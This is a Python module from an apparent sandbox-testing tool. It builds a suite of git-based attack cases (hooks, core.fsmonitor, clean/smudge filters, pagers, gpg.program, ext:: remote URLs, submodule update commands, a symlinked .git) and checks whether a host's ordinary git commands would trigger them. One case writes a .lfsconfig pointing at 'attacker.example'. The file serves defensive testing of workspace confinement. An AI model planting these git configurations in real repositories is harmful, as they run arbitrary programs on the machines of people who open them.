"""Attacks through git: configuration, hooks, filters and repositories in places where the host's git might look."""

from collections.abc import Callable, Sequence

from tinsmith.errors import InputError
from tinsmith.workspace.attacks.attack import Escaped, Outside
from tinsmith.workspace.attacks.stage import Stage
from tinsmith.workspace.checkout import open_checkout
from tinsmith.workspace.copy import Workspace
from tinsmith.workspace.git import run_git

_HOOKS = (
    "mkdir -p .git/hooks; for h in pre-commit post-commit post-checkout post-index-change reference-transaction; "
    "do printf '#!/bin/sh\\nexec %s </dev/null\\n' \"$TRAP\" > .git/hooks/$h; chmod +x .git/hooks/$h; done"
)


def _laid(
    script: str,
    *commands: Sequence[str],
    id: str,
    what: str,
    where: str = ".",
    terminal: bool = False,
    slow: bool = False,
) -> Outside:
    """A trap that a command lays in the copy; `commands` are what a careless host would do there."""

    def play(stage: Stage) -> str:
        stage.inside(script)
        return stage.walk_in()

    return Outside(id, what, play, _naive(script, commands, where, terminal), slow)


def _naive(
    script: str, commands: Sequence[Sequence[str]], where: str, terminal: bool
) -> Callable[[Stage], bool] | None:
    def naive(stage: Stage) -> bool:
        # The walk has put the copy back, so the trap is laid anew.
        stage.inside(script)
        caught = [stage.ordinary(*command, cwd=stage.workspace.tree / where, terminal=terminal) for command in commands]
        return any(caught)

    return naive if commands else None


def _hostile(
    settings: Sequence[tuple[str, str]],
    *commands: Sequence[str],
    id: str,
    what: str,
    prepare: Callable[[Stage], None] = lambda stage: None,
    slow: bool = False,
) -> Outside:
    """A checkout that came with such settings in its `.git/config`, as in an archive."""

    def play(stage: Stage) -> str:
        prepare(stage)
        for name, value in settings:
            done = run_git(["config", name, value.replace("TRAP", str(stage.trap))], cwd=stage.repo)
            if done.returncode != 0:
                raise RuntimeError(done.stderr.decode(errors="replace"))
        stage.inside("echo more >> app.py")
        return stage.walk_in()

    def naive(stage: Stage) -> bool:
        caught = [stage.ordinary(*command, cwd=stage.repo) for command in commands]
        return any(caught)

    return Outside(id, what, play, naive if commands else None, slow)


def _hooks_in_checkout(stage: Stage) -> None:
    hooks = stage.repo / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in (
        "pre-commit",
        "post-commit",
        "post-index-change",
        "reference-transaction",
        "post-checkout",
        "pre-auto-gc",
    ):
        (hooks / name).write_text(f"#!/bin/sh\nexec {stage.trap} </dev/null\n")
        (hooks / name).chmod(0o755)


def _attributes(text: str) -> Callable[[Stage], None]:
    def write(stage: Stage) -> None:
        info = stage.repo / ".git" / "info"
        info.mkdir(exist_ok=True)
        (info / "attributes").write_text(text)

    return write


def _missing_object(stage: Stage) -> None:
    """The blob of app.py is not there; git would fetch it from the promisor."""
    name = run_git(["rev-parse", "HEAD:app.py"], cwd=stage.repo).stdout.decode().strip()
    (stage.repo / ".git" / "objects" / name[:2] / name[2:]).unlink()


def _missing(settings: Sequence[tuple[str, str]], *, id: str, what: str) -> Outside:
    def play(stage: Stage) -> str:
        _missing_object(stage)
        for name, value in settings:
            run_git(["config", name, value.replace("TRAP", str(stage.trap))], cwd=stage.repo)
        stage.inside("echo more >> app.py")
        try:
            return stage.walk_in()
        except InputError as error:
            return f"{error.code}: {error.message}"

    return Outside(
        id,
        what,
        play,
        lambda stage: stage.ordinary("git", "cat-file", "-p", "HEAD:app.py", cwd=stage.repo),
    )


def _own_git(stage: Stage) -> str:
    """Looks for the checkout's repository from inside."""
    done = stage.workspace.run(
        stage.sandbox,
        ["/bin/sh", "-c", 'cat .git/config "$REPO/.git/config" "$REPO/.git/HEAD"'],
        timeout=20,
        env={"REPO": str(stage.repo)},
    )
    if b"[core]" in done.output and (stage.workspace.tree / ".git").is_dir():
        raise Escaped("the checkout's .git can be written inside")
    return "absent"


def _wide_work_tree(stage: Stage) -> str:
    (stage.repo.parent / "beside.txt").write_text(stage.secret)
    run_git(["config", "core.worktree", "../.."], cwd=stage.repo)
    try:
        copy = Workspace.create(stage.repo, stage.place.parent / f"{stage.place.name}-copy")
    except InputError as error:
        return f"{error.code}: {error.message}"
    try:
        if (copy.tree / "beside.txt").exists() or copy.inside != stage.repo:
            raise Escaped("what lies beside the checkout was copied")
    finally:
        copy.discard()
    return "only the checkout was copied"


def _embedded_bare(stage: Stage) -> str:
    place = stage.repo / "embedded"
    place.mkdir()
    for step in (
        ["init", "--quiet", "--bare", "."],
        ["config", "core.bare", "false"],
        ["config", "core.worktree", "."],
        ["config", "core.fsmonitor", str(stage.trap)],
        ["config", "filter.t.clean", str(stage.trap)],
        ["config", "filter.t.smudge", str(stage.trap)],
    ):
        run_git(step, cwd=place)
    (place / "info").mkdir(exist_ok=True)
    (place / "info" / "attributes").write_text("* filter=t\n")
    try:
        top = open_checkout(place).top
        copy = Workspace.create(place, stage.place / "other-copy")
    except InputError as error:
        return f"{error.code}: {error.message}"
    copy.discard()
    return f"opened as {top.name}"


def _gitlink(stage: Stage) -> str:
    stage.inside("git init -q sub; cd sub; git commit -q --allow-empty -m x; echo x > f; git add f; git commit -qm y")
    tree = stage.workspace.snapshot()
    text = stage.workspace.diff(stage.workspace.base, tree)
    if "160000" in text or "sub/.git" in text:
        raise Escaped("a gitlink or a repository came out")
    return stage.walk_in()


_FSMONITOR = 'git config core.fsmonitor "$TRAP"'

GIT = (
    _laid(
        "git init -q .; " + _HOOKS,
        ["git", "commit", "-q", "--allow-empty", "-m", "x"],
        id="G01",
        what="hooks in a .git of the copy",
    ),
    _laid(f"git init -q .; {_FSMONITOR}", ["git", "status"], id="G02", what="core.fsmonitor in a .git of the copy"),
    _laid(
        "git init -q .; git config filter.t.clean \"$TRAP\"; echo '* filter=t' > .gitattributes",
        ["git", "add", "-A"],
        id="G03",
        slow=True,
        what="a clean filter in the copy",
    ),
    _laid(
        'git init -q .; git add -A; git commit -qm x; git config diff.t.textconv "$TRAP"; '
        "echo '* diff=t' > .gitattributes; echo more >> app.py",
        ["git", "diff"],
        id="G04",
        slow=True,
        what="a text conversion in the copy",
    ),
    _laid(
        'git init -q .; git add -A; git commit -qm x; git config diff.external "$TRAP"; echo more >> app.py',
        ["git", "diff"],
        id="G05",
        slow=True,
        what="an external diff program in the copy",
    ),
    _laid(
        'git init -q .; git add -A; git commit -qm x; git config core.pager "$TRAP"',
        ["git", "log"],
        terminal=True,
        id="G06",
        slow=True,
        what="a pager in the copy",
    ),
    _laid(
        f"git init -q .; {_FSMONITOR}; mv .git store; echo 'gitdir: store' > .git",
        ["git", "status"],
        id="G07",
        slow=True,
        what="a .git file that points to a repository in the copy",
    ),
    _laid(
        f"git init -q sub; cd sub; git commit -q --allow-empty -m x; {_FSMONITOR}",
        ["git", "init", "-q", "."],
        ["git", "add", "-A"],
        ["git", "status"],
        id="G08",
        what="a nested repository with core.fsmonitor",
    ),
    _laid(
        f"git init -q --bare b; cd b; git config core.bare false; git config core.worktree .; {_FSMONITOR}",
        ["git", "status"],
        where="b",
        id="G09",
        what="a bare repository among the files",
    ),
    _laid(
        "git init -q .; echo '* filter=t' > .gitattributes; git add -A; git commit -qm x; "
        'git config filter.t.smudge "$TRAP"; rm app.py',
        ["git", "checkout", "--", "app.py"],
        id="G10",
        slow=True,
        what="a smudge filter in the copy",
    ),
    _laid(
        "printf '[core]\\n\\tfsmonitor = %s\\n' \"$TRAP\" > settings; "
        "git init -q .; git config include.path ../settings",
        ["git", "status"],
        id="G11",
        slow=True,
        what="a configuration that includes a file of the copy",
    ),
    _laid(_HOOKS, id="F23", what="write hooks into .git"),
    _laid(
        f"git init -q . || true; {_FSMONITOR}",
        ["git", "status"],
        id="F24",
        slow=True,
        what="set core.fsmonitor by git config",
    ),
    _laid(
        "mv .git .g2 2>/dev/null || true; git init -q .; " + _FSMONITOR,
        ["git", "status"],
        id="F25",
        slow=True,
        what="put another .git in the place of .git",
    ),
    _laid("mkdir -p e/hooks; mv -T e .git; " + _HOOKS, id="F27", what="rename a directory over .git"),
    Outside("G12", "see the checkout's own repository", _own_git),
    _hostile(
        [
            ("core.fsmonitor", "TRAP"),
            ("core.hooksPath", ".git/hooks"),
            ("core.pager", "TRAP"),
            ("core.editor", "TRAP"),
            ("diff.external", "TRAP"),
            ("core.sshCommand", "TRAP"),
            ("core.alternateRefsCommand", "TRAP"),
            ("core.askPass", "TRAP"),
        ],
        ["git", "commit", "-q", "--allow-empty", "-m", "x"],
        prepare=_hooks_in_checkout,
        id="G13",
        what="a checkout whose own configuration and hooks run programs",
    ),
    _hostile(
        [("gpg.program", "TRAP"), ("commit.gpgSign", "true"), ("user.signingKey", "x")],
        ["git", "commit", "-q", "--allow-empty", "-m", "x"],
        id="G14",
        slow=True,
        what="a checkout that has commits signed by its own program",
    ),
    _hostile(
        [("filter.t.clean", "TRAP"), ("filter.t.smudge", "TRAP")],
        ["rm", "app.py"],
        ["git", "checkout", "--", "app.py"],
        prepare=_attributes("* filter=t\n"),
        id="G15",
        what="a checkout with filters of its own",
    ),
    _hostile(
        [("filter.lfs.process", "TRAP"), ("filter.lfs.required", "true"), ("lfs.customtransfer.x.path", "TRAP")],
        ["rm", "app.py"],
        ["git", "checkout", "--", "app.py"],
        prepare=_attributes("* filter=lfs\n"),
        id="G16",
        what="an LFS filter that is another program",
    ),
    _hostile(
        [("merge.t.driver", "TRAP"), ("diff.t.command", "TRAP"), ("diff.t.textconv", "TRAP")],
        ["sh", "-c", "echo more >> a.txt"],
        ["git", "diff"],
        prepare=_attributes("* merge=t diff=t\n"),
        id="G17",
        slow=True,
        what="a checkout with diff and merge drivers of its own",
    ),
    _missing(
        [
            ("core.repositoryFormatVersion", "1"),
            ("extensions.partialClone", "origin"),
            ("remote.origin.promisor", "true"),
            ("remote.origin.url", "ext::TRAP x"),
            ("protocol.ext.allow", "always"),
        ],
        id="G18",
        what="a missing object that is to be fetched from an ext:: URL",
    ),
    _missing(
        [
            ("core.repositoryFormatVersion", "1"),
            ("extensions.partialClone", "origin"),
            ("remote.origin.promisor", "true"),
            ("remote.origin.url", "."),
            ("remote.origin.uploadpack", "TRAP"),
            ("protocol.file.allow", "always"),
        ],
        id="G19",
        what="a missing object that is to be fetched by another program",
    ),
    _laid(
        'printf \'[submodule "s"]\\n\\tpath = s\\n\\turl = ext::%s x\\n\' "$TRAP" > .gitmodules; '
        "git init -q .; git init -q s; git -C s commit -q --allow-empty -m x; "
        "git add -A 2>/dev/null; git commit -qm x; "
        'rm -rf s; mkdir s; git submodule -q init; git config submodule.s.update "!$TRAP"',
        ["git", "-c", "protocol.ext.allow=always", "submodule", "update"],
        id="G20",
        slow=True,
        what="a submodule with an ext:: URL and a command for updates",
    ),
    Outside("G21", "a core.worktree that takes the directories above in", _wide_work_tree),
    Outside("G22", "a bare repository in the checkout, named as the repository", _embedded_bare),
    Outside("G23", "a nested repository comes out as a submodule", _gitlink),
    _laid('ln -s "$OUTSIDE" .git', id="G24", what="a .git that is a symlink to a directory of the host"),
    _laid(
        "echo '* filter=t diff=t' > .gitattributes; echo '[lfs] url = http://attacker.example' > .lfsconfig",
        id="G25",
        what="attributes that send files through the person's own filters",
    ),
)
